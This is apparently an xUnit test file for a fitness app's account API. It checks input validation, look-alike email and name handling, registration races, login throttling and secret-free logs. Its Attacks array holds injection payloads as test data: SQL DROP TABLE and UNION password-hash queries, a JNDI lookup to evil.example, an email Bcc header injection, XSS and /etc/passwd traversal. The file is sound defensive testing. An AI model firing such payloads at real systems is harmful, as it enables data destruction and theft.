using System.Net;
using System.Text.Json.Nodes;
using FitTrack.Core.Accounts;
using FitTrack.Tests.Fixtures;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Xunit;

namespace FitTrack.Tests.Api.Accounts;

public sealed class BadInputTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    /// <summary>As JSON texts, so that some can hold what no .NET string should.</summary>
    private static readonly string[] Attacks =
    [
        "\"' OR '1'='1\"", "\"'; DROP TABLE users; --\"", "\"\\\" OR \\\"\\\"=\\\"\"", "\"1) UNION SELECT password_hash FROM users --\"",
        "\"x\\r\\nSet-Cookie: evil=1\"", "\"a@example.com\\r\\nBcc: thief@example.com\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udc00\\ud800 Passw0rd!x\"",
        "\"${jndi:ldap://evil.example/x}\"", "\"<script>alert(1)</script>\"", "\"../../../../etc/passwd\"", "\"%00%0d%0a\"", "\"\\u202eevil\"", "\"\"", "\"   \"",
        "{\"$ne\":null}", "[1,2]", "true", "1e400", "-1",
    ];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("POST", "/auth/register", """{"email":"new@example.com","password":"Twelve-Miles-2026!","dateOfBirth":"1990-04-12","state":"TX","profile":{"displayName":"Some Body","biologicalSex":"male","fitnessLevel":"beginner","timeZone":"America/Chicago"}}""")]
    [InlineData("POST", "/auth/login", """{"email":"new@example.com","password":"Twelve-Miles-2026!","twoFactorCode":"123456"}""")]
    [InlineData("POST", "/auth/verify-email", """{"token":"x"}""")]
    [InlineData("POST", "/auth/resend-verification", """{"email":"new@example.com"}""")]
    [InlineData("POST", "/auth/forgot-password", """{"email":"new@example.com"}""")]
    [InlineData("POST", "/auth/reset-password", """{"token":"x","newPassword":"Twelve-Miles-2026!"}""")]
    [InlineData("POST", "/auth/refresh", """{"refreshToken":"x"}""")]
    [InlineData("PUT", "/users/me", """{"state":"TX"}""")]
    [InlineData("PUT", "/users/me/profile", """{"displayName":"Some Body","biologicalSex":"male","fitnessLevel":"beginner","timeZone":"America/Chicago","visibility":"public"}""")]
    [InlineData("PUT", "/users/me/password", """{"currentPassword":"Twelve-Miles-2026!","newPassword":"x"}""")]
    [InlineData("POST", "/users/me/two-factor", """{"password":"x","code":null}""")]
    [InlineData("DELETE", "/users/me/two-factor", """{"twoFactorCode":"123456"}""")]
    [InlineData("PUT", "/users/me/limits", """{"weeklySpendingLimit":100,"coolOffUntil":null}""")]
    public async Task EveryField_WhenItHoldsAnAttack_IsRefusedOrHarmless(string method, string path, string body)
    {
        await using var own = new ApiFactory(api.Database.ConnectionString) { Settings = { ["Accounts:LockoutFailures"] = "100" } };
        var member = await own.NewMemberAsync();
        await using var db = api.OpenDb();
        var before = await db.Set<User>().CountAsync(Ct);
        foreach (var field in Fields(JsonNode.Parse(body)!.AsObject(), ""))
        {
            foreach (var attack in Attacks)
            {
                using var request = new HttpRequestMessage(new HttpMethod(method), "/api/v1" + path) { Content = JsonHelpers.Body(With(body, field, attack)) };
                using var response = await member.Client.SendAsync(request, Ct);
                var text = await response.Content.ReadAsStringAsync(Ct);
                Assert.True((int)response.StatusCode < 500, $"{field} = {attack}: {(int)response.StatusCode} {text}");
                Assert.DoesNotContain(response.Headers, h => h.Value.Any(v => v.Contains("evil", StringComparison.Ordinal)));
                if (response.StatusCode == HttpStatusCode.OK)
                    Assert.True(path.StartsWith("/users/me", StringComparison.Ordinal), $"{field} = {attack} opened {path}: {text}");
            }
        }

        // Nobody was added by an attack (a blank optional field may let a registration through), and nobody is gone.
        var added = await db.Set<User>().CountAsync(Ct) - before;
        Assert.InRange(added, 0, 1);
        Assert.DoesNotContain(await db.Set<User>().Select(u => u.Email).ToListAsync(Ct), e => e.Contains("thief", StringComparison.Ordinal) || e.Contains('\''));
    }

    [Theory]
    [InlineData("new@exаmple.com", HttpStatusCode.Created)] // a Cyrillic letter in the domain: another domain, in its ASCII form
    [InlineData("аdmin@example.com", HttpStatusCode.UnprocessableEntity)] // a Cyrillic letter before the @
    [InlineData("ａdmin@example.com", HttpStatusCode.UnprocessableEntity)] // a full-width letter
    [InlineData("admin@exam\u200Bple.com", HttpStatusCode.UnprocessableEntity)] // a zero-width space
    [InlineData("\u202Eadmin@example.com", HttpStatusCode.UnprocessableEntity)] // right to left
    public async Task Email_WhenItPlaysTricks_IsItsOwnOrRefused(string email, HttpStatusCode expected)
    {
        using var response = await api.NewClient().PostJsonAsync("/api/v1/auth/register", TestMembers.Registration(email, new MemberPlan()));
        Assert.Equal(expected, response.StatusCode);
        if (expected == HttpStatusCode.Created)
        {
            await using var db = api.OpenDb();
            Assert.StartsWith("new@xn--", await db.Set<User>().Where(u => u.Email == email).Select(u => u.NormalizedEmail).SingleAsync(Ct), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Email_WhenWrittenInTheOtherFormOrCase_IsTheSameAccount()
    {
        using var first = await api.NewClient().PostJsonAsync("/api/v1/auth/register", TestMembers.Registration("runner@bücher.example", new MemberPlan()));
        await first.ReadJsonAsync(HttpStatusCode.Created);
        foreach (var same in new[] { "RUNNER@BÜCHER.example", "runner@xn--bcher-kva.example", " runner@bu\u0308cher.example " })
        {
            using var again = await api.NewClient().PostJsonAsync("/api/v1/auth/register", TestMembers.Registration(same, new MemberPlan()));
            Assert.Equal("Email already registered", (await again.ReadProblemAsync(HttpStatusCode.Conflict)).Detail);
        }
    }

    [Theory]
    [InlineData("Silver Heron", "Sіlver Heron")] // Cyrillic
    [InlineData("Golden Comet", "Gοlden Cοmet")] // Greek
    [InlineData("Quiet Maple", "Ｑｕｉｅｔ　Ｍａｐｌｅ")] // full width
    [InlineData("Fine Fiddle", "\uFB01ne \uFB01ddle")] // the ligature fi
    [InlineData("Amber Coyote", "AMBER_C0Y0TE")]
    [InlineData("Clear Creek", "Cléár-Crèek")]
    [InlineData("Lone Willow", "1one Wi11ow")]
    public async Task DisplayName_WhenItLooksLikeAnExistingOne_Is409(string existing, string lookAlike)
    {
        await api.NewMemberAsync(new MemberPlan { DisplayName = existing });
        var member = await api.NewMemberAsync();
        using var response = await member.Client.PutJsonAsync("/api/v1/users/me/profile", new { displayName = lookAlike, biologicalSex = "female", fitnessLevel = "intermediate" });
        Assert.Equal("Display name already taken", (await response.ReadProblemAsync(HttpStatusCode.Conflict)).Detail);
    }

    [Fact]
    public async Task Register_WhenTwoRaceForOneName_OneWins()
    {
        var name = "Racer " + Guid.NewGuid().ToString("N")[..10];
        var answers = await Task.WhenAll(Enumerable.Range(0, 6).Select(async i =>
        {
            using var response = await api.NewClient().PostJsonAsync("/api/v1/auth/register", TestMembers.Registration(TestMembers.NewEmail(), new MemberPlan { DisplayName = i % 2 == 0 ? name : name.ToUpperInvariant() }));
            return response.StatusCode;
        }));
        Assert.Equal(1, answers.Count(s => s == HttpStatusCode.Created));
        Assert.Equal(5, answers.Count(s => s == HttpStatusCode.Conflict));
    }

    [Fact]
    public async Task Login_WhenTheQueueIsFull_Is503WithRetryAfterAndOthersGoOn()
    {
        await using var own = new ApiFactory(api.Database.ConnectionString) { Settings = { ["Accounts:PasswordHashing:Concurrency"] = "1", ["Accounts:PasswordHashing:QueuePerSlot"] = "1" } };
        var member = await own.NewMemberAsync();
        var hashing = own.Services.GetRequiredService<PasswordHashing>();
        Task<PasswordHashing.Turn?> waiting;
        using (await hashing.TryEnterAsync(Ct))
        {
            waiting = hashing.TryEnterAsync(Ct);
            using var turnedAway = await own.CreateClient().PostJsonAsync("/api/v1/auth/login", new { email = member.Email, password = member.Password });
            await turnedAway.ReadProblemAsync(HttpStatusCode.ServiceUnavailable);
            Assert.Equal("5", Assert.Single(turnedAway.Headers.GetValues("Retry-After")));
            await member.Client.GetJsonAsync("/api/v1/users/me");
            Assert.False(waiting.IsCompleted);
        }

        (await waiting)!.Dispose();
        await own.CreateClient().LoginAsync(member.Email);
    }

    [Fact]
    public async Task Logs_WhenPeopleSignUpInAndForget_HoldNoAddressAndNoSecret()
    {
        using var recorder = new LogRecorder();
        await using var own = new ApiFactory(api.Database.ConnectionString)
        {
            Settings = { ["Logging:LogLevel:Default"] = "Debug" },
            Register = { services => services.AddSingleton<ILoggerProvider>(recorder) },
        };
        var member = await own.NewMemberAsync();
        for (var i = 0; i < 6; i++)
            (await own.CreateClient().PostJsonAsync("/api/v1/auth/login", new { email = member.Email, password = "Wrong-Miles-2026!" })).Dispose();
        (await own.CreateClient().PostJsonAsync("/api/v1/auth/forgot-password", new { email = member.Email })).Dispose();
        await own.RunDeferredWorkAsync();

        Assert.Contains(recorder.Lines, l => l.Text.Contains("Sign-in failed", StringComparison.Ordinal));
        string[] secrets = [member.Email, member.Email.Split('@')[0], member.Password, "Wrong-Miles-2026!", member.AccessToken, member.RefreshToken];
        Assert.Empty(recorder.Lines.Where(l => secrets.Any(s => l.Text.Contains(s, StringComparison.OrdinalIgnoreCase))).Select(l => $"{l.Category}: {l.Text}"));
    }

    private static IEnumerable<string> Fields(JsonObject body, string prefix) =>
        body.SelectMany(p => p.Value is JsonObject inner ? Fields(inner, $"{prefix}{p.Key}.") : [prefix + p.Key]);

    /// <summary>The body with one field replaced by a JSON text, without parsing that text.</summary>
    private static string With(string body, string field, string json)
    {
        var root = JsonNode.Parse(body)!;
        var names = field.Split('.');
        var parent = names[..^1].Aggregate(root, (node, name) => node[name]!);
        parent[names[^1]] = "@@";
        return root.ToJsonString().Replace("\"@@\"", json, StringComparison.Ordinal);
    }
}
